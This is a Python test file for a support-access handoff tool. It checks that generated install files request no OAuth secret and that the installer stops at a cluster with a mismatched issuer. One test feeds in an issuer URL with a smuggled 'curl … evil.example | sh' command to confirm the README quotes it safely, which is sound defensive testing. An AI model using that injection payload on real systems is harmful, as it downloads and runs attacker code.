"""A handoff without a secret asks for none, and goes to no cluster but the one that was agreed."""

from __future__ import annotations

import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from supportctl.handoff.command import WRITTEN
from tests.supportctl.handing_over import FEDERATED, ISSUER, MADE, contents, federated, texts


def test_without_a_secret_no_file_asks_for_one(
    handoff: Callable[..., int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert handoff(federated(), outputs=FEDERATED) == WRITTEN
    files = {name: text.decode() for name, text in contents(tmp_path / "out").items()}
    assert not [name for name, text in files.items() if "operator-oauth" in text or "age --decrypt" in text]
    (values,) = yaml.safe_load_all(files["values.yaml"])
    assert values["oauth"] == {"clientId": MADE, "audience": "support-access/acme-prod"}
    assert "oauthSecretVolume" not in values
    assert ISSUER in files["README.md"]
    assert MADE in files["uninstall.md"]
    assert "credential is not given" not in capsys.readouterr().err


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (f'{{"issuer":"{ISSUER}","jwks_uri":"https://x/keys"}}', 0),
        (f'{{"issuer":"{ISSUER}1"}}', 1),
        ('{"issuer":"https://elsewhere.example"}', 1),
    ],
)
def test_the_installation_stops_at_a_cluster_with_another_issuer(
    handoff: Callable[..., int], tmp_path: Path, answer: str, code: int
) -> None:
    assert handoff(federated(), outputs=FEDERATED) == WRITTEN
    programs = tmp_path / "bin"
    programs.mkdir()
    for name, line in (("kubectl", f"""case "$*" in *openid*) echo '{answer}' ;; esac"""), ("helm", "echo installed")):
        (programs / name).write_text(f"#!/bin/sh\n{line}\n")
        (programs / name).chmod(0o755)
    done = subprocess.run(
        [str(tmp_path / "out" / "install.sh"), "acme-prod"],
        env={"PATH": f"{programs}:/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == code
    assert ("installed" in done.stdout) == (code == 0)
    assert (ISSUER in done.stderr) == (code != 0)


def test_an_issuer_is_one_word_of_what_the_customer_copies() -> None:
    """A URL may hold what a shell acts on."""
    said = texts(**federated(issuer="https://oidc.acme.example/;curl$IFS-o-$IFS'evil.example'|sh"))["README.md"]
    (line,) = [line for line in said.splitlines() if "curl --fail" in line]
    address = "https://oidc.acme.example/;curl$IFS-o-$IFS'evil.example'|sh/.well-known/openid-configuration"
    assert shlex.split(line, comments=True) == ["curl", "--fail", address]
